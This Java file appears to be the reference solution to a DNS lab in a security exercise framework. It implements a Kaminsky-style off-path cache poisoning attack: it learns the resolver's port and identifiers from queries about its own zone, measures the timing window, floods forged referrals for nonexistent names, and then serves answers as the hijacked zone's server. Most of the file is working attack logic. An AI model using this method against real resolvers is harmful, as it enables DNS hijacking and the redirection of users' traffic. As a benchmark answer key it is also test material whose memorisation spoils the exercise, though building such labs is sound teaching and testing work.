package org.quintain.solutions.net.dnskaminsky;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.quintain.core.Lab;
import org.quintain.core.Seat;
import org.quintain.core.contract.HardSeat;
import org.quintain.core.contract.NearMiss;
import org.quintain.core.contract.Reference;
import org.quintain.net.dnskaminsky.DnsKaminskyLab;
import org.quintain.net.dnskaminsky.DnsKaminskyLab.Answer;
import org.quintain.net.dnskaminsky.DnsKaminskyLab.Challenge;
import org.quintain.net.wire.DnsName;
import org.quintain.solutions.net.dnskaminsky.Messages.Seen;

/**
 * Cache poisoning from off path (D. Kaminsky, Black Hat USA 2008; RFC 5452): learns port and identifiers from questions
 * about a zone of its own (A. Klein 2007), measures the race, and then has one name after the other looked up that does not
 * exist, each with a flood of forged referrals behind it, until the resolver comes and asks the learner.
 *
 * <p>Cost, over the practice seats 0 to 199: 1,975 packets (worst 7,730), 117 queries (worst 257), 7.7 seconds of virtual
 * time (worst 26.2), most of them spent waiting for the user. About 300 to 370 guesses fit into a race and hit one of 2,048
 * identifiers; the 120 to 150 races for which 45,000 packets are enough all fail on one seat in 10^10.
 */
public final class DnsKaminskyAttack implements Reference<Challenge, Answer> {
    private static final int SAMPLES = 12;
    private static final int SLACK_MICROS = 20_000;
    private static final int LINK_OVERHEAD_BYTES = 24;
    private static final int LINK_BITS_PER_MICRO = 10;
    /** Packets that races may use, of the 50,000 that the card allows. */
    private static final int MOST_PACKETS = 45_000;
    /** Calls that races may use, of 4,000; a race that is lost takes four, and one for each answer to a further question. */
    private static final int MOST_CALLS = 3_500;

    @Override
    public Lab<Challenge, Answer> lab() {
        return new DnsKaminskyLab();
    }

    @Override
    public Answer run(Challenge challenge) {
        Recording recording = new Recording(challenge);
        Messages messages = new Messages(challenge);
        messages.findGateway(recording, challenge.gateway());
        List<Seen> questions = survey(recording, messages, challenge);
        int port = questions.isEmpty() ? 0 : questions.get(0).port();
        IdGuess ids = IdGuess.of(questions.stream().map(Seen::id).toList());
        long window = window(recording, messages, challenge);
        if (race(recording, messages, challenge, port, ids, window)) {
            serve(recording, messages, challenge);
        }
        return new Answer(port, recording.script());
    }

    /** Has names of the own zone looked up, and answers: each question of the resolver's shows its port and identifier. */
    static List<Seen> survey(Recording recording, Messages messages, Challenge challenge) {
        List<Seen> all = new ArrayList<>();
        // One question first: while routers ask for MACs, only a few packets wait.
        for (int round = 0; round < 2; round++) {
            for (int i = 0; i < (round == 0 ? 1 : SAMPLES - 1); i++) {
                recording.send(messages.question(i, "s" + round + i + "." + challenge.ownZone()));
            }
            List<Seen> questions = questions(recording, messages, 60_000);
            questions.forEach(question -> recording.send(messages.answer(question)));
            recording.listen(60_000);
            all.addAll(questions);
        }
        return all;
    }

    private static List<Seen> questions(Recording recording, Messages messages, long micros) {
        return recording.listen(micros).stream()
                .map(messages::read)
                .flatMap(Optional::stream)
                .filter(seen -> !seen.isResponse())
                .toList();
    }

    /** How much longer the resolver needs for a name that it must ask about than for one that it knows. */
    static long window(Recording recording, Messages messages, Challenge challenge) {
        long[] took = new long[3];
        // First of all the zone's server must be known; last of all the name is.
        String[] names = {"w0", "w1", "w1"};
        for (int i = 0; i < took.length; i++) {
            long from = recording.now();
            recording.send(messages.question(i, names[i] + "." + challenge.zone()));
            took[i] = recording.listen(200_000).stream()
                    .map(messages::read)
                    .flatMap(Optional::stream)
                    .filter(Seen::isResponse)
                    .mapToLong(seen -> seen.atMicros() - from)
                    .findFirst()
                    .orElse(0);
        }
        return took[1] - took[2];
    }

    /** One race after the other; true if the resolver took a referral and now asks here. */
    private static boolean race(
            Recording recording, Messages messages, Challenge challenge, int port, IdGuess ids, long window) {
        int outstanding = challenge.outstanding();
        long rest = window - outstanding * micros(messages.question(0, "r000." + challenge.zone()));
        byte[] sample = messages.referral("r000." + challenge.zone(), port);
        int copies = (int)
                Math.max(1, Math.min(Math.min(DnsKaminskyLab.MAX_COPIES, challenge.idCount()), rest / micros(sample)));
        int races = Math.min(MOST_CALLS / (4 + outstanding), MOST_PACKETS / (copies + outstanding));
        for (int race = 0; race < races; race++) {
            String name = "r" + race + "." + challenge.zone();
            byte[] question = messages.question(race, name);
            if (outstanding == 1) {
                recording.send(question);
            } else {
                recording.burst(question, race * 64, 1, outstanding);
            }
            recording.burst(messages.referral(name, port), ids.first(), ids.step(), copies);
            for (Seen seen : questions(recording, messages, window + SLACK_MICROS)) {
                if (messages.isInZone(seen)) {
                    recording.send(messages.answer(seen));
                    return true;
                }
            }
        }
        return false;
    }

    /** Time that a frame takes on the learner's link. */
    private static long micros(byte[] frame) {
        return (frame.length + LINK_OVERHEAD_BYTES) * 8L / LINK_BITS_PER_MICRO + 1;
    }

    /** Answers as the zone's new server, until the user's service was asked for. */
    private static void serve(Recording recording, Messages messages, Challenge challenge) {
        DnsName service = DnsName.of(challenge.service());
        for (int i = 0; i < 160; i++) {
            List<Seen> questions = new ArrayList<>(questions(recording, messages, 250_000));
            for (Seen seen : questions) {
                recording.send(messages.answer(seen));
            }
            if (questions.stream().anyMatch(seen -> seen.name().equals(service))) {
                recording.listen(250_000);
                return;
            }
        }
    }

    /** Looks the service up, and a name of the own zone, for which it answers the resolver's question. */
    @Override
    public void honestUse(Challenge challenge) {
        Recording recording = new Recording(challenge);
        Messages messages = new Messages(challenge);
        messages.findGateway(recording, challenge.gateway());
        recording.send(messages.question(1, challenge.service()));
        requireAnswer(recording, messages, challenge.service());
        String own = "hello." + challenge.ownZone();
        recording.send(messages.question(2, own));
        questions(recording, messages, 60_000).forEach(question -> recording.send(messages.answer(question)));
        requireAnswer(recording, messages, own);
    }

    private static void requireAnswer(Recording recording, Messages messages, String name) {
        boolean isAnswered = recording.listen(300_000).stream()
                .map(messages::read)
                .flatMap(Optional::stream)
                .anyMatch(seen -> seen.isResponse()
                        && seen.name().equals(DnsName.of(name))
                        && seen.dns().answerCount() == 1);
        if (!isAnswered) {
            throw new IllegalStateException("an address wanted: name=" + name);
        }
    }

    @Override
    public List<NearMiss<Answer>> nearMisses(Challenge challenge, Answer right) {
        return DnsKaminskyMisses.of(challenge, right);
    }

    @Override
    public List<HardSeat> hardSeats() {
        return List.of(
                seat(14, "the identifiers are 32 apart, and the first race is won: nobody may flood on"),
                seat(47, "the identifiers run over the end: behind 65,535 comes 0, and the least is not the first"));
    }

    private static HardSeat seat(int number, String why) {
        return new HardSeat(why, Seat.practice(number), Map.of());
    }
}
